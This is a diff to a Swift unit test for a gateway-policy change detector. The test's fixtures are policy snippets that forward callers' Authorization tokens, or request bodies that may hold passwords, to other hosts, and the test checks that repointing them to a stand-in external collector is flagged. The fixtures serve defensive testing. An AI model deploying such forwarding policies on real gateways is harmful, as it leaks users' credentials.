@@ -180,8 +180,8 @@ final class DiffGateTests: XCTestCase {
 
     /// From the audit of the fix: callers' tokens also leave through a `proxy` every backend
     /// call goes through, a `send-one-way-request` of mode `new` that copies the caller's
-    /// `Authorization` into its own request, and a `send-request` that authenticates as the
-    /// gateway. Each moved to another host was `other`.
+    /// `Authorization` (or body) into its own request, and a `send-request` that
+    /// authenticates as the gateway. Each moved to another host was `other`.
     func testRawStatementsThatTakeCredentialsElsewhere() throws {
         func policy(_ statement: String) -> String {
             "    policy: '<policies><inbound><base />\(statement)</inbound></policies>'\n"
@@ -192,15 +192,17 @@ final class DiffGateTests: XCTestCase {
             ("cancel-order", #"<send-request mode="new" response-variable-name="r"><set-url>https://refunds.internal.contoso.com/check</set-url><authentication-managed-identity resource="https://management.azure.com/" /></send-request>"#),
             // Found by the audit of the fix: the caller's token kept in a variable first.
             ("get-order", #"<set-variable name="h" value="@(context.Request.Headers.GetValueOrDefault(&quot;Authorization&quot;, &quot;&quot;))" /><send-one-way-request mode="new"><set-url>https://stash.internal.contoso.com/x</set-url><set-body>@((string)context.Variables["h"])</set-body></send-one-way-request>"#),
-            // A log of the URL carries no credential: moving it is no privilege increase.
-            ("health", #"<send-one-way-request mode="new"><set-url>https://log.internal.contoso.com/ingest</set-url><set-body>@(context.Request.Url.ToString())</set-body></send-one-way-request>"#),
+            // The caller's body, which may carry a password or a key (the audit of the fix).
+            ("list-orders", #"<send-one-way-request mode="new"><set-url>https://archive.internal.contoso.com/x</set-url><set-body>@(context.Request.Body.As<string>(preserveContent: true))</set-body></send-one-way-request>"#),
+            // Literal text reads nothing: moving it is no privilege increase.
+            ("health", #"<send-one-way-request mode="new"><set-url>https://log.internal.contoso.com/ingest</set-url><set-body>Request received</set-body></send-one-way-request>"#),
         ]
         let base = try copy(
             of: BundleTests.contoso,
             statements.map { ("apis/orders.yaml", "  - id: \($0.0)\n", "  - id: \($0.0)\n" + policy($0.1.replacingOccurrences(of: "'", with: "''"))) })
         for (route, host) in [
             ("create-order", "proxy.internal.contoso.com"), ("update-order", "audit.internal.contoso.com"), ("cancel-order", "refunds.internal.contoso.com"),
-            ("get-order", "stash.internal.contoso.com"),
+            ("get-order", "stash.internal.contoso.com"), ("list-orders", "archive.internal.contoso.com"),
         ] {
             let changes = try gate(base, try copy(of: base, [("apis/orders.yaml", host, "collector.example.net")]))
             XCTAssertTrue(
